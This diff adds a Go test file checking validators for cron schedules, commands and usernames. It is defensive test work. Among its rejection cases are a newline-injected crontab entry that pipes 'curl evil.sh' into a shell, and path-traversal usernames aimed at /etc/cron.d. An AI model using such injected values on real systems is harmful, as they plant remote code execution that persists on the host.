@@ -0,0 +1,97 @@
+package hidora
+
+import (
+	"strings"
+	"testing"
+)
+
+func TestValidateCronSchedule(t *testing.T) {
+	cases := []struct {
+		name     string
+		schedule string
+		err      string
+	}{
+		{name: "every minute", schedule: "* * * * *"},
+		{name: "values, ranges and steps", schedule: "0,30 8-18/2 1-15 */3 1-5"},
+		{name: "names", schedule: "0 0 * jan-jun MON"},
+		{name: "sunday as 7", schedule: "0 0 * * 7"},
+		{name: "macro", schedule: "@daily"},
+		{name: "spaces around", schedule: "  5 4 * * *  "},
+		{name: "unknown macro", schedule: "@often", err: "unknown macro"},
+		{name: "missing field", schedule: "* * * *", err: "must have 5 fields"},
+		{name: "extra field", schedule: "* * * * * *", err: "must have 5 fields"},
+		{name: "out of range", schedule: "60 * * * *", err: "invalid minute field"},
+		{name: "day of month 0", schedule: "* * 0 * *", err: "invalid day of month field"},
+		{name: "reversed range", schedule: "* 18-8 * * *", err: "is reversed"},
+		{name: "zero step", schedule: "*/0 * * * *", err: "invalid step"},
+		{name: "unknown name", schedule: "* * * foo *", err: "is not a number"},
+	}
+
+	for _, c := range cases {
+		t.Run(c.name, func(t *testing.T) {
+			_, errs := validateCronSchedule(c.schedule, "schedule")
+			if c.err == "" {
+				if len(errs) > 0 {
+					t.Fatalf("unexpected errors: %v", errs)
+				}
+				return
+			}
+			if len(errs) == 0 || !strings.Contains(errs[0].Error(), c.err) {
+				t.Fatalf("expected error %q, got %v", c.err, errs)
+			}
+		})
+	}
+}
+
+func TestValidateCronCommand(t *testing.T) {
+	cases := []struct {
+		name    string
+		command string
+		err     string
+	}{
+		{name: "command", command: "/usr/bin/backup.sh --full > /dev/null 2>&1"},
+		{name: "newline", command: "backup.sh\n* * * * * curl evil.sh | sh", err: "can't contain newlines"},
+		{name: "carriage return", command: "backup.sh\r", err: "can't contain newlines"},
+		{name: "empty", command: " ", err: "can't be empty"},
+	}
+
+	for _, c := range cases {
+		t.Run(c.name, func(t *testing.T) {
+			_, errs := validateCronCommand(c.command, "command")
+			if c.err == "" {
+				if len(errs) > 0 {
+					t.Fatalf("unexpected errors: %v", errs)
+				}
+				return
+			}
+			if len(errs) == 0 || !strings.Contains(errs[0].Error(), c.err) {
+				t.Fatalf("expected error %q, got %v", c.err, errs)
+			}
+		})
+	}
+}
+
+func TestValidateCronUser(t *testing.T) {
+	cases := []struct {
+		user  string
+		valid bool
+	}{
+		{"root", true},
+		{"www-data", true},
+		{"_apt", true},
+		{"../../etc/cron.d/evil", false},
+		{"nginx/../root", false},
+		{"Root", false},
+		{"", false},
+		{strings.Repeat("a", 33), false},
+	}
+
+	for _, c := range cases {
+		t.Run(c.user, func(t *testing.T) {
+			_, errs := validateCronUser(c.user, "user")
+			if c.valid != (len(errs) == 0) {
+				t.Fatalf("expected valid %t, got %v", c.valid, errs)
+			}
+		})
+	}
+}